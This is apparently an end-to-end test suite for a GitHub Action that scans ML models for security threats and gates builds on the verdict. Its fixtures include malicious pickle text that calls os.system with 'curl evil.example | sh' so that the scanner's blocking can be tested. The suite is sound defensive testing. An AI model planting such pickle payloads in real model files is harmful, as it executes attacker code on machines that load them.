import { createHash } from 'node:crypto'
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals'
import fs from 'node:fs/promises'
import os from 'node:os'
import path from 'node:path'
import type { Simulator } from '../../sim/server.js'
import { CLI, runAction, runProcess, type ActionRun } from '../helpers/run-dist.js'
import { validateReport, validateSarif } from '../helpers/schemas.js'
import { requests, startSim } from '../helpers/sim.js'
import {
  placeholderClient,
  publish,
  setHooks,
  standInClient,
  startPackageIndex,
  type PackageIndex
} from '../helpers/wheel.js'

/**
 * Local models through the bundled action (`node dist/index.js`), for real: the action finds Python, makes a
 * new virtual environment in a private directory under RUNNER_TEMP, gets an index URL from the simulator,
 * installs the stand-in `model-security-client` wheel from the simulator's private index with pip, runs the
 * driver, which scans the workspace's model directory and creates the scan with its `scan_details`; the action
 * then polls, collects and reports that scan like a Hugging Face one, and removes its private directory. A
 * "public" index offering the placeholder is configured in every way pip listens to, and must never be asked.
 * Each step installs afresh: nothing an earlier step left in RUNNER_TEMP is used. So every run costs an install
 * (pip, some 2 CPU seconds), and models that go different ways share a run where their checks are independent:
 * Hugging Face, local and object-storage models, with a scanner that hangs and clients that crash, raise, die
 * after creating their scan or lack credentials, are judged in one run, one model each. Every run is checked for
 * secrets in all it printed and wrote as it ends, so each test stands on its own, in any order.
 */

const VERSION = '1.1.2'
const CLEAN_HF = 'https://huggingface.co/airs-sim/clean-model'
/** object-storage models, in the stand-in's simulated buckets */
const S3 = 's3://ml-artifacts/release/classifier'
const GS = 'gs://ml-models/imported/resnet'

let sim: Simulator
let pub: PackageIndex
let root: string
let workspace: string
/** shared by the runs, as the steps of one job share it */
let runnerTemp: string
let trap: Record<string, string>
/** the stand-in's hooks (its mode, where it records its call, its simulated buckets) */
let hooksFile: string

beforeAll(async () => {
  sim = await startSim({ settleMs: 50 })
  root = await fs.mkdtemp(path.join(os.tmpdir(), 'airs-runner-e2e-'))
  hooksFile = path.join(root, 'standin-hooks.json')
  const good = standInClient(VERSION, hooksFile)
  publish(sim, good)
  pub = await startPackageIndex([placeholderClient('0.0.1'), placeholderClient(VERSION)])
  workspace = path.join(root, 'workspace')
  runnerTemp = path.join(root, 'runner-temp')
  const write = async (rel: string, content: string | Buffer) => {
    await fs.mkdir(path.dirname(path.join(workspace, rel)), { recursive: true })
    await fs.writeFile(path.join(workspace, rel), content)
  }
  await write('models/clean/model.safetensors', Buffer.alloc(64, 1))
  await write('models/clean/config.json', '{"architectures": ["GPT2LMHeadModel"]}')
  // protocol-0 pickle text of a __reduce__ that calls os.system, as torch.load would run it
  await write('models/evil/pytorch_model.bin', "cposix\nsystem\n(S'curl evil.example | sh'\ntR.")
  await write('models/evil/config.json', '{}')
  // the same, for a client that dies right after creating its scan (see the failure modes below)
  await write('models/evil-late/pytorch_model.bin', "cposix\nsystem\n(S'curl evil.example | sh'\ntR.")
  await write('models/evil-late/config.json', '{}')
  // clean models the stand-in fails on by name (see the failure modes below)
  for (const name of ['crashing', 'raising', 'hanging'])
    await write(`models/${name}/model.safetensors`, Buffer.alloc(64, 3))
  // the "buckets" the stand-in client downloads object-storage models from
  const bucket = async (rel: string, content: string | Buffer) => {
    await fs.mkdir(path.dirname(path.join(root, 'buckets', rel)), { recursive: true })
    await fs.writeFile(path.join(root, 'buckets', rel), content)
  }
  await bucket('s3/ml-artifacts/release/classifier/model.safetensors', Buffer.alloc(64, 2))
  await bucket('gs/ml-models/imported/resnet/model.pkl', "cposix\nsystem\n(S'id'\ntR.")
  trap = {
    PIP_INDEX_URL: pub.url,
    PIP_EXTRA_INDEX_URL: pub.url,
    PIP_FIND_LINKS: pub.url,
    // what the runner hands every step, and the client must not get
    GITHUB_TOKEN: 'ghs_runner-token',
    ACTIONS_ID_TOKEN_REQUEST_TOKEN: 'oidc-request-token',
    ACTIONS_ID_TOKEN_REQUEST_URL: 'http://127.0.0.1:9/oidc',
    ACTIONS_RUNTIME_TOKEN: 'runtime-token'
  }
}, 30_000)

afterAll(async () => {
  await pub?.close()
  if (root) await fs.rm(root, { recursive: true, force: true })
})

const recordFile = () => path.join(root, 'record.json')
/** what a job that logged in to AWS and Google Cloud has in its environment */
const cloudCredentials = () => ({
  AWS_ACCESS_KEY_ID: 'AKIAEXAMPLE',
  AWS_SECRET_ACCESS_KEY: 'aws-secret-example',
  GOOGLE_APPLICATION_CREDENTIALS: path.join(root, 'gcp.json')
})

/**
 * No credential or index URL in what a run printed or wrote: its log, outputs, summary, report and SARIF. Each run
 * is checked as it ends, against the client secret and every index token issued so far; `issued` are the tokens
 * issued during this run, which the action must have handed to the runner to mask before anything could print
 * them (`masked`: the CLI masks nothing through the runner, it redacts its own output).
 */
function expectNoSecrets(r: ActionRun, issued: string[], masked: boolean): void {
  const secrets = [sim.credentials.clientSecret, ...sim.indexTokens()]
  if (masked) {
    const masks = new Set([...r.stdout.matchAll(/^::add-mask::(.*)$/gm)].map((m) => m[1]!))
    expect(issued.filter((t) => !masks.has(t))).toEqual([])
  }
  const texts = [
    // the masking commands themselves carry the secrets to the runner, which hides them from then on
    r.stdout.replace(/^::add-mask::.*$/gm, ''),
    r.stderr,
    r.summary,
    JSON.stringify(r.outputs),
    JSON.stringify(r.report ?? null),
    JSON.stringify(r.sarif ?? null)
  ]
  for (const text of texts) {
    for (const s of secrets)
      expect(text.includes(s) ? `${s} in …${text.slice(text.indexOf(s) - 200)}` : '').toBe('')
    // no index URL with its userinfo, whatever the token
    expect(text).not.toMatch(/_token:[^*@\s]+@/)
  }
}

/**
 * The action on the workspace, as one step of a job on this runner; `mode` is the stand-in's. Every run is checked
 * for secrets (expectNoSecrets); `indexTokens` are the index URLs' tokens it was issued.
 */
async function gate(
  inputs: Record<string, string>,
  env: Record<string, string> = {},
  timeoutMs = 120_000,
  mode: string | Record<string, string> = ''
): Promise<ActionRun & { indexTokens: string[] }> {
  await setHooks(hooksFile, { record: recordFile(), buckets: path.join(root, 'buckets'), mode })
  const issuedBefore = sim.indexTokens().length
  const r = await runAction(
    inputs,
    {
      ...sim.env(),
      ...trap,
      GITHUB_WORKSPACE: workspace,
      RUNNER_TEMP: runnerTemp,
      GITHUB_REPOSITORY: 'octo-org/models',
      GITHUB_SHA: 'a94a8fe5ccb19ba61c4c0873d391e987982fbbd3',
      ...env
    },
    timeoutMs
  )
  const indexTokens = sim.indexTokens().slice(issuedBefore)
  expectNoSecrets(r, indexTokens, true)
  return { ...r, indexTokens }
}

const errorLines = (r: ActionRun) => r.stdout.split('\n').filter((l) => l.startsWith('::error'))
const indexUrlsIssued = () => requests(sim, '/v1/pypi/authenticate')
/** What the step left in RUNNER_TEMP of the scanner's private directories: nothing, when it ended. */
const leftBehind = async (rt = runnerTemp) =>
  (await fs.readdir(rt).catch(() => [] as string[])).filter((d) => d.startsWith('airs-scanner-'))

describe('a local model directory, end to end', () => {
  it('ALLOWED: installs the pinned client, scans on the runner, and gates on the service’s verdict', async () => {
    const r = await gate({ 'model-uri': 'models/clean', labels: 'team=ml' })
    expect(errorLines(r)).toEqual([])
    expect(r.code).toBe(0)
    expect(r.stdout).toContain(
      'scanner: installing model-security-client==1.1.2 from the private package index'
    )
    expect(r.outputs).toMatchObject({ verdict: 'pass', 'eval-outcome': 'ALLOWED', error: '' })
    const m = r.report!.models[0]!
    expect(m.model).toMatchObject({ input: 'models/clean', source_type: 'LOCAL' })
    expect(m.scan).toMatchObject({ source_type: 'LOCAL', scan_origin: 'MODEL_SECURITY_SDK' })
    expect(m.files.items.map((f) => f.path).sort()).toEqual(['config.json', 'model.safetensors'])
    // the evaluations came through the same collection as for Hugging Face
    expect(m.evaluations.items.length).toBe(m.scan!.eval_summary!.total_rules)
    // the scan the client created carries the workflow's labels and the gate's request label
    const created = sim.store.scans.get(m.scan!.uuid)!
    expect(created.labels).toEqual(
      expect.arrayContaining([
        { key: 'team', value: 'ml' },
        { key: 'gate-request-id', value: expect.stringMatching(/^[0-9a-f-]{36}$/) }
      ])
    )
    expect(r.summary).toMatch(/^## ✅ Model gate passed/)
    expect(validateReport(r.report)).toEqual([])
    // one index URL, handed to the runner to mask (checked with every run by gate())
    expect(r.indexTokens).toHaveLength(1)
    expect(r.stdout).toContain(`::add-mask::${r.indexTokens[0]}`)
    // the placeholder's index was configured every way pip listens to, and never asked
    expect(pub.requests).toEqual([])
    // the client ran in the environment the step made, which is gone with the step
    const record = JSON.parse(await fs.readFile(recordFile(), 'utf8'))
    expect(record.prefix.startsWith(path.join(runnerTemp, 'airs-scanner-'))).toBe(true)
    expect(await leftBehind()).toEqual([])
  }, 180_000)

  // One run for models that each go their own way, as one install serves them all (CONTRIBUTING.md): Hugging
  // Face and local models side by side; a scanner that hangs; clients that crash, raise, or die after creating
  // their scan; and object storage without one provider's credentials. The timeout is each model's own (the
  // install and the wait for a turn do not count), long enough for the others, which take a second or two.
  it('Hugging Face, local and object-storage models in one run, with a scanner that hangs and clients that crash, raise, die after their scan or lack credentials: each judged on its own, one verdict', async () => {
    const before = indexUrlsIssued()
    const { AWS_ACCESS_KEY_ID: _, ...noAws } = cloudCredentials()
    const inputs = [
      'models/hanging',
      CLEAN_HF,
      'models/clean',
      'models/evil',
      'models/crashing',
      'models/raising',
      'models/evil-late',
      S3,
      GS
    ]
    const r = await gate({ 'model-uri': inputs.join('\n'), timeout: '15s' }, noAws, 120_000, {
      hanging: 'hang',
      crashing: 'crash',
      raising: 'raise',
      'evil-late': 'crash-after-post'
    })
    expect(r.code).toBe(1)
    // nothing of an earlier step is reused: this step installs the client again
    expect(indexUrlsIssued()).toBe(before + 1)
    expect(r.stdout).toContain('scanner: installing')
    expect(r.report!.models.map((m) => m.model.input)).toEqual(inputs)
    const [hanging, hf, clean, evil, crashing, raising, late, s3, gs] = r.report!.models

    // a scanner that outlives the timeout is stopped, and that model fails with TIMEOUT (the `error` output
    // names the first model that failed: this one)
    expect(hanging).toMatchObject({ status: 'error', error: { code: 'TIMEOUT' } })
    expect(hanging!.error!.message).toContain('The scanner on the runner did not finish within')
    expect(hanging!.scan).toBeUndefined()
    expect(r.outputs.error).toBe('TIMEOUT')

    // Hugging Face and local models, each scanned its own way
    expect(
      [hf, clean, evil].map((m) => [m!.model.source_type, m!.scan?.scan_origin, m!.scan?.eval_outcome])
    ).toEqual([
      ['HUGGING_FACE', expect.anything(), 'ALLOWED'],
      ['LOCAL', 'MODEL_SECURITY_SDK', 'ALLOWED'],
      ['LOCAL', 'MODEL_SECURITY_SDK', 'BLOCKED']
    ])
    // one verdict
    expect(r.outputs).toMatchObject({ verdict: 'fail', 'eval-outcome': 'BLOCKED' })
    // the blocked file anchored: a pickle that runs a command at load time
    expect(evil!.violations.items).toEqual(
      expect.arrayContaining([expect.objectContaining({ file: 'pytorch_model.bin', threat: 'PAIT-PKL-100' })])
    )
    // annotations point at the model file in the repository, and SARIF does too
    expect(r.stdout).toMatch(
      /^::error title=[^,]+%3A pytorch_model\.bin,file=models\/evil\/pytorch_model\.bin::models\/evil: /m
    )
    expect(validateSarif(r.sarif)).toEqual([])
    expect(JSON.stringify(r.sarif)).toContain('"uri":"models/evil/pytorch_model.bin"')
    expect(r.summary).toContain('Model gate failed')
    expect(pub.requests).toEqual([])

    // a crash: the tail of its output, redacted; an exception: its type and message; no scan left unjudged
    expect(crashing).toMatchObject({ status: 'error', error: { code: 'SCANNER_FAILED' } })
    expect(crashing!.error!.message).toContain(
      'The scanner crashed: it exited with code 134 without reporting a result.'
    )
    expect(crashing!.error!.message).toContain('secret=***')
    expect(raising).toMatchObject({ status: 'error', error: { code: 'SCANNER_FAILED' } })
    expect(raising!.error!.message).toContain(
      'The model security client failed to scan the model (PermissionError:'
    )
    expect([crashing!.scan, raising!.scan]).toEqual([undefined, undefined])
    // the scan a client made before it died is found and judged
    expect(late).toMatchObject({ status: 'blocked', scan: { eval_outcome: 'BLOCKED' } })
    expect(late!.error).toBeUndefined()
    expect(r.stdout).toMatch(
      /::warning::The scanner on the runner failed after creating scan [0-9a-f-]{36}; judging that scan/
    )
    expect(errorLines(r).length).toBeGreaterThan(0)

    // missing cloud credentials: that model fails with the client's own words, the other is judged
    expect([s3, gs].map((m) => [m!.status, m!.error?.code])).toEqual([
      ['error', 'SCANNER_FAILED'],
      ['blocked', undefined]
    ])
    expect(s3!.error!.message).toBe(
      'The model security client failed to scan the model (PermissionError: NoCredentialsError: Unable to locate credentials (AWS_ACCESS_KEY_ID is not set))'
    )
  }, 180_000)
})

describe('the CLI', () => {
  it('gates a local model the same way (exit 1 when blocked)', async () => {
    await setHooks(hooksFile, { record: recordFile() })
    const issued = sim.indexTokens().length
    const r = await runProcess(
      CLI,
      ['--model-uri', 'models/evil', '--python', 'python3', '--workspace', workspace],
      { ...sim.env(), ...trap, RUNNER_TEMP: runnerTemp }
    )
    const cliTokens = sim.indexTokens().slice(issued)
    expect(cliTokens).toHaveLength(1)
    expectNoSecrets({ ...r, outputs: {}, summary: '' }, cliTokens, false)
    expect(r.code).toBe(1)
    expect(r.stdout).toContain(
      'BLOCKED: 2 of 6 rules failed (Load Time Code Execution Check, Stored In Approved File Format)'
    )
    expect(r.stdout).toContain('pytorch_model.bin')
  }, 60_000)
})

describe('object storage', () => {
  it('S3 and GCS: the extras for both, the cloud credentials reach the client, downloads stay in the job and go', async () => {
    const r = await gate({ 'model-uri': `${S3}\n${GS}` }, cloudCredentials())
    expect(r.code).toBe(1)
    expect(r.stdout).toContain(
      'scanner: installing model-security-client[aws,gcp]==1.1.2 from the private package index'
    )
    expect(
      r.report!.models.map((m) => [m.model.source_type, m.scan?.model_uri, m.scan?.eval_outcome])
    ).toEqual([
      ['S3', S3, 'ALLOWED'],
      ['GCS', GS, 'BLOCKED']
    ])
    expect(r.report!.models[1]!.violations.items).toEqual(
      expect.arrayContaining([expect.objectContaining({ file: 'model.pkl', threat: 'PAIT-PKL-100' })])
    )
    // what the client downloaded and scanned is hashed before it goes, named from the model's own folder
    // (the client's download folders, with their random names, are not part of it)
    const sha = (b: Buffer | string) => createHash('sha256').update(b).digest('hex')
    expect(r.report!.models.map((m) => m.model.digest?.files)).toEqual([
      [{ path: 'model.safetensors', sha256: sha(Buffer.alloc(64, 2)), size: 64 }],
      [{ path: 'model.pkl', sha256: sha("cposix\nsystem\n(S'id'\ntR."), size: 24 }]
    ])
    // the last call: downloaded into the step's private directory, removed by the gate once hashed (the
    // client is told to leave it), and nothing of the action's own
    const record = JSON.parse(await fs.readFile(recordFile(), 'utf8'))
    expect(record).toMatchObject({ model_uri: GS, model_path: null, cleanup_download_dir: false })
    expect(record.download_dir).toMatch(
      new RegExp(
        `^${path.join(runnerTemp, 'airs-scanner-').replace(/[.*+?^${}()|[\]\\]/g, '\\$&')}[^/]+/run-`
      )
    )
    await expect(fs.access(record.download_dir)).rejects.toThrow()
    // the GCS scan got Google's credentials and not AWS's
    expect(record.env).toContain('GOOGLE_APPLICATION_CREDENTIALS')
    expect(record.env).not.toContain('AWS_ACCESS_KEY_ID')
    expect(record.env.filter((n: string) => /^(INPUT_|PANW_|PIP_|GITHUB_|ACTIONS_|RUNNER_)/.test(n))).toEqual(
      []
    )
    expect(await leftBehind()).toEqual([])
  }, 180_000)
})

describe('each failure says what went wrong, and fails the step', () => {
  /** The run failed closed with this error code and a message containing every part. */
  function expectFailed(r: ActionRun, code: string, ...parts: string[]) {
    expect({ exit: r.code, verdict: r.outputs.verdict, error: r.outputs.error }).toEqual({
      exit: 1,
      verdict: 'fail',
      error: code
    })
    const message = r.report!.models[0]?.error?.message ?? r.report!.error?.message ?? ''
    for (const part of parts) expect(message).toContain(part)
    // no scan was created that the gate left unjudged
    expect(r.report!.models[0]?.scan).toBeUndefined()
    expect(errorLines(r).length).toBeGreaterThan(0)
  }

  it('no Python: says to add actions/setup-python', async () => {
    const r = await gate({ 'model-uri': 'models/clean', python: path.join(root, 'no-such', 'python3') })
    expectFailed(
      r,
      'SCANNER_SETUP',
      'No Python found to run the model security client',
      'add actions/setup-python'
    )
  })

  it('an unsupported Python version names the range', async () => {
    const fake = path.join(root, 'python3.9')
    await fs.writeFile(
      fake,
      `#!/bin/sh\necho '{"version": [3, 9, 18], "executable": "/usr/bin/python3.9"}'\n`,
      {
        mode: 0o755
      }
    )
    const r = await gate({ 'model-uri': 'models/clean', python: fake })
    expectFailed(r, 'SCANNER_SETUP', 'Python 3.9.18', 'needs Python 3.11 to 3.13')
  })

  it('pip failure: a version the private index does not have, with the tail of pip’s output', async () => {
    const r = await gate({ 'model-uri': 'models/clean', 'scanner-version': '9.9.9' })
    expectFailed(
      r,
      'SCANNER_SETUP',
      'pip could not install model-security-client==9.9.9 (exit code 1): the private package index (the only one consulted) has no such version; it offers 1.1.2',
      "Last lines of pip's output:",
      'No matching distribution found for model-security-client==9.9.9'
    )
    // the index URL in pip's words is redacted, and the failed environment is gone with the step
    expect(r.report!.error?.message ?? r.report!.models[0]?.error?.message).toMatch(
      /Looking in indexes: http:\/\/\*\*\*@127\.0\.0\.1:/
    )
    expect(await leftBehind()).toEqual([])
    expect(pub.requests).toEqual([])
  }, 120_000)

  // an index URL refused once, then accepted, is covered in process (__tests__/scanner/runner.test.ts, "an
  // expired index URL is fetched once more"); here the refusal and its one refresh through the bundle
  it('an index that refuses its URL fetches one more, says so, and fails if that is refused too', async () => {
    const temp = path.join(root, 'runner-temp-refused')
    const before = indexUrlsIssued()
    sim.faults.add({ area: 'pypi', action: { type: 'status', status: 403 }, times: null })
    try {
      const r = await gate({ 'model-uri': 'models/clean' }, { RUNNER_TEMP: temp })
      expect(r.stdout).toContain(
        '::warning::scanner: the package index refused its URL (HTTP 401/403; it may have expired): fetching a new one'
      )
      expectFailed(
        r,
        'SCANNER_SETUP',
        'The private package index refused a freshly fetched URL as well (HTTP 401/403)'
      )
      // the first URL and one refresh, no more
      expect(indexUrlsIssued()).toBe(before + 2)
    } finally {
      sim.faults.clear()
    }
  }, 180_000)

  // a scanner that outlives the timeout: in the run of many models above, one install for all of them

  it.each([
    ['does not exist', 'models/missing', 'does not exist'],
    ['escapes the workspace', '../outside', 'outside the workspace']
  ])('a path that %s is refused before any request', async (_what, uri, problem) => {
    const before = requests(sim)
    const r = await gate({ 'model-uri': uri })
    expectFailed(r, 'INVALID_INPUT', 'Invalid input model-uri:', problem)
    expect(requests(sim)).toBe(before)
  })
})
